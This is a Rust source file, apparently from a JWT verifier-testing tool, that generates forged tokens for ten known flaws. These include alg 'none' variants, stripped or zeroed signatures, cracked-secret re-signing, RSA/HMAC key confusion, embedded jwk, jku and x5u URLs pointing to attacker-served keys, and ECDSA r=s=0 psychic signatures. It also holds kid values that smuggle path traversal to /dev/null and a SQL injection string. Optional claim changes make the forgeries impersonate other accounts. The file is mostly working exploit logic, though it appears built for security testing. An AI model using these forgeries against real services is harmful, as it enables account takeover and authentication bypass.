//! The forged tokens: one [`Family`] per flaw a verifier can have, each as jwt_tool or Burp's JWT
//! Editor would build it.

use std::sync::Arc;

use hmac::{Hmac, Mac};
use serde_json::{Map, Value, json};

use super::keys::{AttackerKey, key_confusion_secrets};
use super::token::{Jwt, b64, b64_json};
use crate::redact::{Kind, fingerprint};

/// What a forgery attacks. A verifier that accepts a token of a family has that family's flaw.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, serde::Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Family {
    /// `alg: none` in each of its 16 case spellings, with the signature part empty, absent, or the
    /// original one kept (a verifier that looks up "none" case-insensitively, or skips verification
    /// for it). Always made.
    AlgNone,
    /// The claims changed, the header and the old signature kept (a server that decodes without
    /// verifying). Always made: with no claim change the payload gains `"usher_tampered": true`.
    TamperedClaims,
    /// The original header with an empty, absent, all-zero or `null` signature. Always made.
    EmptySignature,
    /// Re-signed (HS256, or the token's own HS alg) with the secret [`crate::jwt::crack_hs256`] found.
    /// Needs [`ForgeInputs::cracked_secret`].
    WeakSecret,
    /// HS256 with the server's RSA public key text as the HMAC secret, in each PEM form. Needs
    /// [`ForgeInputs::published_keys`].
    KeyConfusion,
    /// RS256 signed by usher's key, that key embedded as the header's `jwk` (CVE-2018-0114). Needs
    /// [`ForgeInputs::attacker_key`].
    EmbeddedJwk,
    /// RS256 signed by usher's key, the header's `jku` naming a JWKS usher serves. Needs
    /// [`ForgeInputs::attacker_key`] and [`ForgeInputs::jku_url`].
    Jku,
    /// RS256 signed by usher's key, the header's `x5u` naming a certificate usher serves. Needs
    /// [`ForgeInputs::attacker_key`] and [`ForgeInputs::x5u_url`].
    X5u,
    /// HS256 with a `kid` that makes a key lookup land on a key the attacker knows: `/dev/null` by path
    /// traversal (empty key), a known file, an id with no key behind it, SQL injection. Always made.
    GuessableKid,
    /// ECDSA "psychic signature" (CVE-2022-21449): ES256 (or the token's ES alg) with r = s = 0, in the
    /// JOSE (raw) and DER encodings. Always made.
    PsychicSignature,
}

impl Family {
    pub const ALL: [Family; 10] = [
        Family::AlgNone,
        Family::TamperedClaims,
        Family::EmptySignature,
        Family::WeakSecret,
        Family::KeyConfusion,
        Family::EmbeddedJwk,
        Family::Jku,
        Family::X5u,
        Family::GuessableKid,
        Family::PsychicSignature,
    ];

    /// The kebab-case name used in reports and scenario parameters.
    pub fn name(self) -> &'static str {
        match self {
            Family::AlgNone => "alg-none",
            Family::TamperedClaims => "tampered-claims",
            Family::EmptySignature => "empty-signature",
            Family::WeakSecret => "weak-secret",
            Family::KeyConfusion => "key-confusion",
            Family::EmbeddedJwk => "embedded-jwk",
            Family::Jku => "jku",
            Family::X5u => "x5u",
            Family::GuessableKid => "guessable-kid",
            Family::PsychicSignature => "psychic-signature",
        }
    }
}

impl std::fmt::Display for Family {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

/// What the caller knows or serves, beyond the victim's token. A family whose input is missing is
/// simply not made (see [`Family`]).
#[derive(Clone, Default)]
pub struct ForgeInputs {
    /// Claims to set in every forgery (e.g. another account's `sub` and `email`): the forgery then
    /// impersonates that account. `None` keeps the victim's claims byte for byte.
    pub claim_change: Option<Map<String, Value>>,
    /// The HMAC secret [`crate::jwt::crack_hs256`] found.
    pub cracked_secret: Option<String>,
    /// The server's published keys: a JWKS document, one JWK, or a PEM public key.
    pub published_keys: Option<String>,
    /// usher's key pair for `jwk`, `jku` and `x5u`.
    pub attacker_key: Option<Arc<AttackerKey>>,
    /// Where the caller serves [`AttackerKey::jwks`].
    pub jku_url: Option<String>,
    /// Where the caller serves [`AttackerKey::certificate_pem`].
    pub x5u_url: Option<String>,
}

impl std::fmt::Debug for ForgeInputs {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("ForgeInputs")
            .field(
                "claim_change",
                &self
                    .claim_change
                    .as_ref()
                    .map(|m| m.keys().collect::<Vec<_>>()),
            )
            .field(
                "cracked_secret",
                &self
                    .cracked_secret
                    .as_deref()
                    .map(|s| fingerprint(Kind::Secret, s)),
            )
            .field("published_keys", &self.published_keys.is_some())
            .field("attacker_key", &self.attacker_key)
            .field("jku_url", &self.jku_url)
            .field("x5u_url", &self.x5u_url)
            .finish()
    }
}

/// One forged token. `Debug` shows its fingerprint, never the token.
#[derive(Clone, PartialEq, Eq)]
pub struct Forgery {
    pub family: Family,
    /// What exactly was forged, e.g. "alg `nOnE`, signature part absent"; secrets appear as
    /// fingerprints only.
    pub label: String,
    /// Whether the claims carry [`ForgeInputs::claim_change`] (an impersonation attempt).
    pub impersonates: bool,
    pub token: String,
}

impl std::fmt::Debug for Forgery {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Forgery")
            .field("family", &self.family)
            .field("label", &self.label)
            .field("impersonates", &self.impersonates)
            .field("token", &fingerprint(Kind::Token, &self.token))
            .finish()
    }
}

/// The victim's token with its signature corrupted (one bit of each byte flipped), for the controls
/// a scenario runs first: a verifier must refuse it, or no forgery verdict means anything.
pub fn corrupted_signature(jwt: &Jwt) -> String {
    let mut sig = jwt.signature.clone();
    if sig.is_empty() {
        sig = vec![0x5a; 32];
    }
    for b in &mut sig {
        *b ^= 0x01;
    }
    format!("{}.{}", jwt.signing_input(), b64(&sig))
}

/// The 16 case spellings of `none`.
pub(crate) fn none_spellings() -> Vec<String> {
    (0u8..16)
        .map(|mask| {
            "none"
                .chars()
                .enumerate()
                .map(|(i, c)| {
                    if mask & (1 << i) != 0 {
                        c.to_ascii_uppercase()
                    } else {
                        c
                    }
                })
                .collect()
        })
        .collect()
}

pub(crate) fn hmac_sign(alg: &str, key: &[u8], input: &[u8]) -> Vec<u8> {
    fn run<M: Mac + hmac::digest::KeyInit>(key: &[u8], input: &[u8]) -> Vec<u8> {
        let mut mac =
            <M as hmac::digest::KeyInit>::new_from_slice(key).expect("HMAC takes any key");
        mac.update(input);
        mac.finalize().into_bytes().to_vec()
    }
    match alg {
        "HS384" => run::<Hmac<sha2::Sha384>>(key, input),
        "HS512" => run::<Hmac<sha2::Sha512>>(key, input),
        _ => run::<Hmac<sha2::Sha256>>(key, input),
    }
}

struct Forger<'a> {
    jwt: &'a Jwt,
    claims_b64: String,
    impersonates: bool,
    out: Vec<Forgery>,
}

impl Forger<'_> {
    /// The header with `set` applied in place (key order kept; new keys go last), as base64url.
    fn header(&self, set: &[(&str, Value)]) -> String {
        let mut header = self.jwt.header.clone();
        for (k, v) in set {
            header.insert((*k).to_string(), v.clone());
        }
        b64_json(&header)
    }

    fn push(&mut self, family: Family, label: String, token: String) {
        self.out.push(Forgery {
            family,
            label,
            impersonates: self.impersonates,
            token,
        });
    }

    fn push_hmac(&mut self, family: Family, label: String, alg: &str, header: String, key: &[u8]) {
        let input = format!("{header}.{}", self.claims_b64);
        let sig = hmac_sign(alg, key, input.as_bytes());
        self.push(family, label, format!("{input}.{}", b64(&sig)));
    }

    fn push_rs256(&mut self, family: Family, label: String, header: String, key: &AttackerKey) {
        let input = format!("{header}.{}", self.claims_b64);
        let sig = key.sign_rs256(input.as_bytes());
        self.push(family, label, format!("{input}.{}", b64(&sig)));
    }
}

/// The HMAC alg a re-signed forgery uses: the token's own when it is HS384/HS512, else HS256.
fn hs_alg(jwt: &Jwt) -> &'static str {
    match jwt.alg() {
        "HS384" => "HS384",
        "HS512" => "HS512",
        _ => "HS256",
    }
}

/// `kid` values a key lookup may resolve to a key the attacker knows, and that key.
const GUESSABLE_KIDS: &[(&str, &[u8], &str)] = &[
    (
        "../../../../../../../../../../../../dev/null",
        b"",
        "path traversal to /dev/null, empty key",
    ),
    ("/dev/null", b"", "absolute /dev/null, empty key"),
    (
        "../../../../../../../../../../../../proc/sys/kernel/randomize_va_space",
        b"2\n",
        "path traversal to a file whose content is known (`2`)",
    ),
    ("0", b"", "an id with no key behind it, empty key"),
    ("", b"", "an empty kid, empty key"),
    (
        "usher' UNION SELECT 'usher'-- ",
        b"usher",
        "SQL injection selecting a known key",
    ),
];

/// Every forgery the inputs allow, for the families in [`Family`] order.
pub fn forgeries(jwt: &Jwt, inputs: &ForgeInputs) -> Vec<Forgery> {
    let (claims_b64, impersonates) = match &inputs.claim_change {
        Some(change) => {
            let mut claims = jwt.claims.clone();
            for (k, v) in change {
                claims.insert(k.clone(), v.clone());
            }
            (b64_json(&claims), true)
        }
        None => (jwt.claims_b64().to_string(), false),
    };
    let mut f = Forger {
        jwt,
        claims_b64,
        impersonates,
        out: Vec::new(),
    };

    for spelling in none_spellings() {
        let header = f.header(&[("alg", json!(spelling))]);
        let input = format!("{header}.{}", f.claims_b64);
        f.push(
            Family::AlgNone,
            format!("alg `{spelling}`, empty signature part"),
            format!("{input}."),
        );
        f.push(
            Family::AlgNone,
            format!("alg `{spelling}`, signature part absent"),
            input.clone(),
        );
        f.push(
            Family::AlgNone,
            format!("alg `{spelling}`, original signature kept"),
            format!("{input}.{}", jwt.signature_b64()),
        );
    }

    let tampered = if inputs.claim_change.is_some() {
        f.claims_b64.clone()
    } else {
        let mut claims = jwt.claims.clone();
        claims.insert("usher_tampered".into(), json!(true));
        b64_json(&claims)
    };
    f.push(
        Family::TamperedClaims,
        "claims changed, original header and signature kept".into(),
        format!("{}.{tampered}.{}", jwt.header_b64(), jwt.signature_b64()),
    );

    let input = format!("{}.{}", jwt.header_b64(), f.claims_b64);
    let zero_len = jwt.signature.len().max(32);
    for (label, token) in [
        ("empty signature part", format!("{input}.")),
        ("signature part absent", input.clone()),
        (
            "all-zero signature",
            format!("{input}.{}", b64(&vec![0u8; zero_len])),
        ),
        ("signature part `null`", format!("{input}.null")),
    ] {
        f.push(Family::EmptySignature, label.into(), token);
    }

    if let Some(secret) = &inputs.cracked_secret {
        let alg = hs_alg(jwt);
        let header = f.header(&[("alg", json!(alg))]);
        let label = format!(
            "{alg} with the cracked secret {}",
            fingerprint(Kind::Secret, secret)
        );
        f.push_hmac(Family::WeakSecret, label, alg, header, secret.as_bytes());
    }

    if let Some(published) = &inputs.published_keys {
        for key in key_confusion_secrets(published).unwrap_or_default() {
            let mut set = vec![("alg", json!("HS256"))];
            if let Some(kid) = &key.kid {
                set.push(("kid", json!(kid)));
            }
            let header = f.header(&set);
            let label = match &key.kid {
                Some(kid) => format!("HS256 with the public key `{kid}` as secret: {}", key.label),
                None => format!("HS256 with the public key as secret: {}", key.label),
            };
            f.push_hmac(Family::KeyConfusion, label, "HS256", header, &key.secret);
        }
    }

    if let Some(key) = &inputs.attacker_key {
        let kid = json!(key.kid());
        let header = f.header(&[
            ("alg", json!("RS256")),
            ("kid", kid.clone()),
            ("jwk", key.jwk()),
        ]);
        f.push_rs256(
            Family::EmbeddedJwk,
            "RS256 signed by usher's key, embedded as `jwk`".into(),
            header,
            key,
        );
        if let Some(url) = &inputs.jku_url {
            let header = f.header(&[
                ("alg", json!("RS256")),
                ("kid", kid.clone()),
                ("jku", json!(url)),
            ]);
            f.push_rs256(
                Family::Jku,
                format!("RS256 signed by usher's key, `jku` {url}"),
                header,
                key,
            );
        }
        if let Some(url) = &inputs.x5u_url {
            let header = f.header(&[("alg", json!("RS256")), ("kid", kid), ("x5u", json!(url))]);
            f.push_rs256(
                Family::X5u,
                format!("RS256 signed by usher's key, `x5u` {url}"),
                header,
                key,
            );
        }
    }

    let alg = hs_alg(jwt);
    for (kid, key, why) in GUESSABLE_KIDS {
        let header = f.header(&[("alg", json!(alg)), ("kid", json!(kid))]);
        f.push_hmac(
            Family::GuessableKid,
            format!("{alg}, kid {kid:?}: {why}"),
            alg,
            header,
            key,
        );
    }

    let (es_alg, raw_len) = match jwt.alg() {
        "ES384" => ("ES384", 96),
        "ES512" => ("ES512", 132),
        _ => ("ES256", 64),
    };
    let header = f.header(&[("alg", json!(es_alg))]);
    let input = format!("{header}.{}", f.claims_b64);
    // SEQUENCE { INTEGER 0, INTEGER 0 }: what jwt_tool sends, for verifiers that expect DER.
    let der = [0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00];
    f.push(
        Family::PsychicSignature,
        format!("{es_alg}, r = s = 0, raw (JOSE) signature"),
        format!("{input}.{}", b64(&vec![0u8; raw_len])),
    );
    f.push(
        Family::PsychicSignature,
        format!("{es_alg}, r = s = 0, DER signature"),
        format!("{input}.{}", b64(&der)),
    );

    f.out
}
